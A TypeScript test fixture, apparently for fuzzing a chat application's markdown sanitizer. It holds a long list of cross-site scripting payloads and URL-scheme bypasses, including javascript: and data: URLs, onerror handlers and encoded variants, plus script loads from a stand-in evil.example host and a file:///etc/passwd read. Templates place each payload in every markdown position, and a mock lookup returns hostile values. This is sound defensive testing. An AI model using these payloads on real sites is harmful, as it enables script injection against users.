import { parseLinkifierPattern } from "../linkifier-pattern.ts";
import type { Linkifier, MarkdownLookup } from "../lookup.ts";

/** Markup that would run a script or request an address if it were used as HTML, and beginnings of attributes. */
const markup = [
  "<script>alert(1)</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<img src=x onerror=alert(1)>",
  "<img/src/onerror=alert(1)>",
  '<img src="x\nonerror=alert(1)">',
  "<img src=`x`onerror=alert(1)>",
  "<img src=//evil.example/x.png>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
  "<iframe src=javascript:alert(1)></iframe>",
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=//evil.example/x.mp3 autoplay>",
  "<input autofocus onfocus=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=//evil.example/x.swf>",
  "<a href=javascript:alert(1)>x</a>",
  "<form action=javascript:alert(1)><button>x</button></form>",
  "<style>@import '//evil.example/x.css';</style>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  "<base href=//evil.example/>",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<template><img src=x onerror=alert(1)></template>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<img src=x onerror=alert(1)>]]>",
  "<?xml version='1.0'?><img src=x onerror=alert(1)>",
  "</p></div></span></code><script>alert(1)</script>",
  "</title></textarea></style><script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "'><img src=x onerror=alert(1)>",
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  "` onmouseover=alert(1) `",
  '" style="background:url(//evil.example/x.png)" x="',
  "x onerror=alert(1)",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;script&#x3e;alert(1)",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "＜script＞alert(1)＜/script＞",
  "<ſcript>alert(1)</ſcript>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<scr\u200bipt>alert(1)</scr\u200bipt>",
  "<img src=x\u000conerror=alert(1)>",
  "<img src=x\u000bonerror=alert(1)>",
  "\u202e<img src=x onerror=alert(1)>\u202c",
  "\ud83d<script>alert(1)</script>",
  "\u2028<script>alert(1)</script>\u2029",
  "$$</annotation><script>alert(1)</script>$$",
  "{{constructor.constructor('alert(1)')()}}",
];

/** Addresses that run a script, request another host, or read files. */
const addresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  " javascript:alert(1)",
  "\u0001javascript:alert(1)",
  "\u00a0javascript:alert(1)",
  "\u200bjavascript:alert(1)",
  "java\tscript:alert(1)",
  "java\nscript:alert(1)",
  "java\u0000script:alert(1)",
  "javascript\u003aalert(1)",
  "javascript\uff1aalert(1)",
  "javascript&colon;alert(1)",
  "javascript&#58;alert(1)",
  "&#106;avascript:alert(1)",
  "&Tab;javascript:alert(1)",
  "%6Aavascript:alert(1)",
  "javascript%3Aalert(1)",
  "javascript://evil.example/%0aalert(1)",
  "javascript:/*--></title></style><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
  "javascript:8080/alert(1)",
  "data:text/html,<script>alert(1)</script>",
  "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
  "DATA:text/html,x",
  "vbscript:msgbox(1)",
  "VbScRiPt:msgbox(1)",
  "file:///etc/passwd",
  "blob:https://evil.example/1",
  "filesystem:https://evil.example/1",
  "about:blank",
  "view-source:javascript:alert(1)",
  "feed:javascript:alert(1)",
  "jar:javascript:alert(1)",
  "livescript:alert(1)",
  "ms-its:x",
  "intent:x",
  "ws://evil.example",
  "http:javascript:alert(1)",
  "http://a@javascript:alert(1)",
  "https://javascript:alert(1)",
  'https://a.example/"onclick="alert(1)',
  "https://a.example/'onclick='alert(1)",
  "https://a.example/`onclick=alert(1)`",
  "https://a.example/<script>alert(1)</script>",
  "mailto:a@b.example?subject=<script>alert(1)</script>",
  'tel:1"onclick="alert(1)',
  '#"onclick="alert(1)',
  '/"onclick="alert(1)',
  "/\\evil.example",
  "\\\\evil.example",
  "\u202egnp.exe//:ptth",
  "https://еvil.example",
];

/** All hostile texts. */
export const hostileTexts: readonly string[] = [...markup, ...addresses];

const fence = "```";
const pathId = "1/4e/4e8f00000000000000000000000000ab";

/** All positions of a text in a message. */
const positions: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `**${text}** *${text}* ~~${text}~~`,
  (text) => `\`${text}\` \`\`${text}\`\``,
  (text) => `[${text}](https://a.example)`,
  (text) => `[a](${text}) [b](<${text}>) [](${text})`,
  (text) => `[a](https://a.example "${text}")`,
  (text) => `![${text}](/user_uploads/${pathId}/lamp.png) ![a](${text}) ![${text}](https://a.example/x.png)`,
  (text) => `[${text}](/user_uploads/${pathId}/lamp.png)`,
  (text) => `[a](/user_uploads/${pathId}/${text}) ![a](/user_uploads/${pathId}/${text})`,
  (text) => `<${text}>`,
  (text) => `https://a.example/${text} www.a.example/${text} //${text}`,
  (text) => `[a]: ${text}\n\n[a] [b][a]`,
  (text) => `${fence}${text}\nx\n${fence}`,
  (text) => `${fence}js\n${text}\n${fence}`,
  (text) => `${fence}html\n${text}\n${fence}`,
  (text) => `    ${text}`,
  (text) => `${fence}spoiler ${text}\n${text}\n${fence}`,
  (text) => `${fence}quote ${text}\n${text}\n${fence}`,
  (text) => `> ${text}`,
  (text) => `$$${text}$$ $$\\text{${text}}$$`,
  (text) => `$$\\href{${text}}{x}$$ $$\\url{${text}}$$ $$\\includegraphics{${text}}$$`,
  (text) =>
    `$$\\htmlStyle{${text}}{x}$$ $$\\htmlData{a=${text}}{x}$$ $$\\color{${text}}x$$ $$\\htmlClass{${text}}{x}$$`,
  (text) => `${fence}math\n${text}\n${fence}`,
  (text) => `<time:${text}> <time:2024-01-01${text}>`,
  (text) => `:${text}: :a${text}`,
  (text) => `@**${text}** @_**${text}** @**${text}|12** @**|${text}**`,
  (text) => `@*${text}* @_*${text}*`,
  (text) => `#**${text}** #**design>${text}** #**${text}>${text}@12**`,
  (text) => `|${text}|b|\n|:-:|-|\n|${text}|b|`,
  (text) => `# ${text}`,
  (text) => `- [ ] ${text}\n  1. ${text}`,
  (text) => `TICKET-1 ${text} TICKET-${text}`,
  (text) => `/me ${text}`,
];

/** Creates messages with a text in each position. */
export function createMessagesWith(text: string): string[] {
  return positions.map((insert) => insert(text));
}

/**
 * An office in which every name exists, linkifiers have hostile templates, and every upload is a picture with a hostile
 * type.
 */
export const hostileOffice: MarkdownLookup = {
  userByName: (fullName) => ({ id: 12, fullName }),
  userById: (id) => ({ id, fullName: "<img src=x onerror=alert(1)>" }),
  groupByName: (name) => ({ id: 5, name, mentionable: true }),
  channelByName: (name) => ({ id: 9, name }),
  uploadByPath: (path) => ({
    contentType: '"><img src=x onerror=alert(1)>',
    picture: { width: 1, height: 1, animated: true, thumbnailUrl: `/user_uploads/thumbnail/${path}"onerror="alert(1)` },
  }),
  customEmojiByName: (name) => ({ id: 3, name: `${name}"onerror="alert(1)`, url: '/x.png"onerror="alert(1)' }),
  emptyTopicDisplayName: "<script>alert(1)</script>",
  defaultCodeLanguage: '"><script>alert(1)</script>',
  linkifiers: [
    linkifier("(?<all>javascript:.+)", "{+all}"),
    linkifier("(?<all>data:.+)", "{+all}"),
    linkifier("TICKET-(?<all>.+)", "javascript:alert({all})"),
    linkifier("script.(?<all>.+)", 'https://a.example/{+all}"onclick="alert(1)'),
    linkifier("alert.(?<all>.+)", "//evil.example/{all}"),
    linkifier("onerror=(?<all>.+)", "vbscript:{all}"),
    linkifier("(?<all>[^ ]+)", "{+all}"),
  ],
};

function linkifier(source: string, urlTemplate: string): Linkifier {
  const parsed = parseLinkifierPattern(source);
  if ("problem" in parsed) throw new Error(parsed.problem);
  return { pattern: parsed.pattern, urlTemplate };
}
